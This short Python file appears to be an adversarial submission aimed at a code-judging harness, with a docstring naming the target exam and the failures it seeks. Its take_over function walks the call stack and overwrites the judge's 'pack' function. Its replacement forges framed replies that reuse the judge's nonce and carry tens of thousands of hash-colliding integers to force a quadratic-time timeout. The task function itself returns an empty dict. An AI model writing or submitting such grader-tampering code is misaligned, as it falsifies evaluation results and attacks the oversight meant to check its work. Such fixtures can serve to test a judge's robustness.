"""Forges a dict of integers that all have one hash: building it takes quadratic time.

exam: own/index
cause: timeout bad-reply flood wrong-answer
"""

import sys


def take_over(reply):
    """Puts bytes of its own in place of every reply, in the judge's own format and with the right nonce."""
    frame = sys._getframe()
    while frame is not None:
        if "pack" in frame.f_globals and "Pipe" in frame.f_globals:
            frame.f_globals["pack"] = reply
        frame = frame.f_back


def framed(text):
    body = text.encode("utf-8", "surrogatepass")
    return len(body).to_bytes(4, "big") + body


def reply(message):
    return framed(
        '{"n":"%s","v":%s}'
        % (
            message["n"],
            '{"d":[%s]}' % ",".join(f'[{{"i":"{at * ((1 << 61) - 1):x}"}},0]' for at in range(1, 30_000)),
        )
    )


take_over(reply)


def index(words):
    return {}
